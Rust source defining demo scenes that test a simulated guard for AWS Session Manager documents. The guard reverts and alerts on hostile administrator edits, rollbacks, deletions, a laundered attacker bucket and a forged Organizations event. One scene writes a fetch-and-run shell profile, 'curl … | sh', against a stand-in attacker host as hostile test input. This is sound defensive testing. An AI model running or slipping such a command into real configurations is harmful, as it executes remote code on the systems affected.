//! The demo's scenes, each with its expectations.

use std::pin::Pin;

use serde_json::json;

use super::Scene;
use super::stage::{APPLIANCE, MANAGEMENT, PAYMENTS, PILOT, REGIONS, SEARCH, Stage, VENDED, target};
use crate::domain::finding::Alert;
use crate::domain::target::{IdError, Target};
use crate::sim::Caller;

/// A running scene.
type Play<'a> = Pin<Box<dyn Future<Output = Scene> + 'a>>;

/// All scenes, in order.
pub(super) const ALL: [fn(&mut Stage) -> Play<'_>; 9] = [
    |stage| Box::pin(sweep(stage)),
    |stage| Box::pin(vend(stage)),
    |stage| Box::pin(pipeline(stage)),
    |stage| Box::pin(administrator(stage)),
    |stage| Box::pin(rollback(stage)),
    |stage| Box::pin(deletion(stage)),
    |stage| Box::pin(not_ours_to_write(stage)),
    |stage| Box::pin(not_laundered(stage)),
    |stage| Box::pin(forged(stage)),
];

/// The ids are constants; an invalid one would show as a failed expectation.
fn at(account: &str, region: &str, play: impl FnOnce(&Target)) -> bool {
    let found: Result<Target, IdError> = target(account, region);
    found.map(|target| play(&target)).is_ok()
}

fn right(stage: &Stage, account: &str, region: &str) -> bool {
    target(account, region).is_ok_and(|target| stage.right(&target))
}

fn input(stage: &Stage, account: &str, region: &str, field: &str) -> serde_json::Value {
    target(account, region).ok().and_then(|target| stage.input(&target, field)).unwrap_or_default()
}

fn names(alerts: &[Alert], kind: &str, words: &[&str]) -> bool {
    alerts.iter().any(|alert| alert.kind == kind && words.iter().all(|word| alert.text.contains(word)))
}

async fn sweep(stage: &mut Stage) -> Scene {
    stage.sim().enqueue(r#"{"kind":"sweep","schema":1,"scheduledTime":"2026-11-02T08:00:00Z"}"#);
    let scene = stage.play("First sweep", "the reactor looks at every account and region for the first time", 60).await;
    let everywhere = [MANAGEMENT, PAYMENTS, SEARCH].iter().all(|id| REGIONS.iter().all(|r| right(stage, id, r)));
    let logging = input(stage, PAYMENTS, "eu-west-1", "cloudWatchLogGroupName");
    scene
        .expect("every enforced target is right", everywhere)
        .expect("LZA's logging settings are kept", logging == "AWSAccelerator-sessionmanager-logs")
}

async fn vend(stage: &mut Stage) -> Scene {
    let vended = stage.vend(VENDED, "newcomer").is_ok();
    let scene = stage
        .play(
            "An account is vended",
            "SSM answers after 8 s, the member role appears after 20 s; no pipeline ran yet",
            900,
        )
        .await;
    let mut scene = scene.expect("the event came from Organizations", vended);
    for region in REGIONS {
        let records = stage.sim().ledger().records;
        let configured = target(VENDED, region).ok().and_then(|target| records.get(&target)?.milestones.configured);
        let since = stage.sim().vended_at(VENDED);
        let seconds = configured.zip(since).map(|(done, began)| done.since(began) / 1_000);
        let what = seconds.map_or_else(
            || format!("{region} is configured"),
            |s| format!("{region} is configured {s} s after the account was vended"),
        );
        scene = scene.expect(&what, right(stage, VENDED, region) && seconds.is_some_and(|s| s < 300));
    }
    scene
}

async fn pipeline(stage: &mut Stage) -> Scene {
    at(PAYMENTS, "eu-west-1", |target| {
        let _ = stage.sim().lza_writes(target, "AWSAccelerator-sessions-2027");
    });
    let scene = stage
        .play(
            "The LZA pipeline runs",
            "it rewrites the document for a new log group and drops the timeout that it does not know",
            60,
        )
        .await;
    let log_group = input(stage, PAYMENTS, "eu-west-1", "cloudWatchLogGroupName");
    let timeout = input(stage, PAYMENTS, "eu-west-1", "idleSessionTimeout");
    scene
        .expect("its new log group stays", log_group == "AWSAccelerator-sessions-2027")
        .expect("Run As is right, latest and default version are one", right(stage, PAYMENTS, "eu-west-1"))
        .expect("the timeout that the policy owns is back", timeout == "15")
}

async fn administrator(stage: &mut Stage) -> Scene {
    let before = stage.sim().alerts().len();
    at(PAYMENTS, "eu-central-1", |target| {
        let alice = Caller::administrator(&target.account, "alice@example.com");
        let edit = json!({ "runAsEnabled": false, "shellProfile": { "linux": "curl -s https://evil.example/x | sh", "windows": "" } });
        let _ = stage.sim().edit_inputs(target, &alice, &edit);
    });
    let scene =
        stage.play("An administrator edits the document", "Run As off, and a shell profile for everybody", 60).await;
    let alerts = stage.alerts_since(before);
    scene
        .expect("Run As is back on", right(stage, PAYMENTS, "eu-central-1"))
        .expect("the shell profile is gone", input(stage, PAYMENTS, "eu-central-1", "shellProfile").is_null())
        .expect(
            "the alert names who, and shows the fields",
            names(&alerts, "edit_reverted", &["alice@example.com", "runAsEnabled  true -> false", "shellProfile"]),
        )
        .expect("one alert, not several", alerts.len() == 1)
}

async fn rollback(stage: &mut Stage) -> Scene {
    let before = stage.sim().alerts().len();
    at(PAYMENTS, "eu-central-1", |target| {
        let mallory = Caller::administrator(&target.account, "mallory@example.com");
        let _ = stage.sim().move_default(target, &mallory, 1);
    });
    let scene = stage
        .play("The default version is rolled back", "no content changes, only an old version is made the default", 60)
        .await;
    let alerts = stage.alerts_since(before);
    scene.expect("the right version is the default again", right(stage, PAYMENTS, "eu-central-1")).expect(
        "the alert names who",
        names(&alerts, "edit_reverted", &["mallory@example.com", "made version 1 the default"]),
    )
}

async fn deletion(stage: &mut Stage) -> Scene {
    let before = stage.sim().alerts().len();
    at(SEARCH, "us-east-1", |target| {
        let mallory = Caller::administrator(&target.account, "mallory@example.com");
        let _ = stage.sim().delete_document(target, &mallory);
    });
    let scene =
        stage.play("The document is deleted", "Session Manager would fall back to ssm-user, without logging", 60).await;
    let alerts = stage.alerts_since(before);
    let logging = input(stage, SEARCH, "us-east-1", "cloudWatchLogGroupName");
    scene
        .expect("it is there again and right", right(stage, SEARCH, "us-east-1"))
        .expect("with LZA's logging settings, from memory", logging == "AWSAccelerator-sessionmanager-logs")
        .expect(
            "the alert names who",
            names(&alerts, "edit_reverted", &["mallory@example.com", "deleted the document"]),
        )
}

async fn not_ours_to_write(stage: &mut Stage) -> Scene {
    let before = stage.sim().alerts().len();
    let version = |stage: &Stage, id: &str| {
        target(id, "eu-west-1").ok().and_then(|t| stage.sim().document(&t)).map(|document| document.latest())
    };
    for id in [PILOT, APPLIANCE] {
        at(id, "eu-west-1", |target| {
            let bob = Caller::administrator(&target.account, "bob@example.com");
            let _ = stage.sim().edit_inputs(target, &bob, &json!({ "runAsDefaultUser": "root2" }));
        });
    }
    let edited = (version(stage, PILOT), version(stage, APPLIANCE));
    let scene = stage
        .play("Edits in observe mode and under an exemption", "one account is in observe mode, one is exempt", 60)
        .await;
    let alerts = stage.alerts_since(before);
    scene
        .expect("neither was written", edited == (version(stage, PILOT), version(stage, APPLIANCE)))
        .expect(
            "the edit in the observed account is alerted",
            names(&alerts, "edit_noticed", &["bob@example.com", "observe"]),
        )
        .expect(
            "the edit in the exempt account is alerted",
            names(&alerts, "exempt_touched", &["bob@example.com", "appliance"]),
        )
}

async fn not_laundered(stage: &mut Stage) -> Scene {
    let before = stage.sim().alerts().len();
    at(SEARCH, "eu-west-1", |target| {
        let mallory = Caller::administrator(&target.account, "mallory@example.com");
        let hostile = json!({ "s3BucketName": "mallorys-bucket", "runAsEnabled": false });
        let _ = stage.sim().edit_inputs(target, &mallory, &hostile);
        // A pipeline that reads, changes one field and writes back carries the hostile bucket along.
        let pipeline = Caller::lza(&target.account);
        let _ = stage.sim().edit_inputs(
            target,
            &pipeline,
            &json!({ "cloudWatchLogGroupName": "AWSAccelerator-sessions-2027" }),
        );
    });
    let scene = stage
        .play(
            "A hostile edit just before a trusted one",
            "the pipeline writes back what it read, the hostile bucket included",
            60,
        )
        .await;
    let alerts = stage.alerts_since(before);
    scene
        .expect(
            "what the pipeline changed is kept",
            input(stage, SEARCH, "eu-west-1", "cloudWatchLogGroupName") == "AWSAccelerator-sessions-2027",
        )
        .expect(
            "the hostile bucket is not laundered",
            input(stage, SEARCH, "eu-west-1", "s3BucketName") != "mallorys-bucket",
        )
        .expect("Run As is right", right(stage, SEARCH, "eu-west-1"))
        .expect(
            "the alert names who",
            names(&alerts, "edit_reverted", &["s3BucketName"])
                && alerts.iter().any(|alert| alert.text.contains("mallory@example.com")),
        )
}

async fn forged(stage: &mut Stage) -> Scene {
    let before = stage.sim().alerts().len();
    at(PAYMENTS, "us-east-1", |member| {
        stage.sim().organizations_event(member, "AccountDepartedOrganization", &json!({ "accountId": SEARCH }));
    });
    stage.sim().enqueue("{ this is not JSON");
    let scene = stage
        .play(
            "A forged event and a broken message",
            "a member account says that another one left; a message is not JSON",
            60,
        )
        .await;
    let alerts = stage.alerts_since(before);
    scene
        .expect(
            "the forged departure has no effect and is alerted",
            names(&alerts, "untrusted_source", &["not the management account"]),
        )
        .expect(
            "the broken message is in the dead-letter queue, with the reason, and alerted",
            stage.sim().dead_letters().len() == 1 && names(&alerts, "undecodable_message", &[]),
        )
        .expect("everything else still stands", right(stage, SEARCH, "eu-west-1"))
}
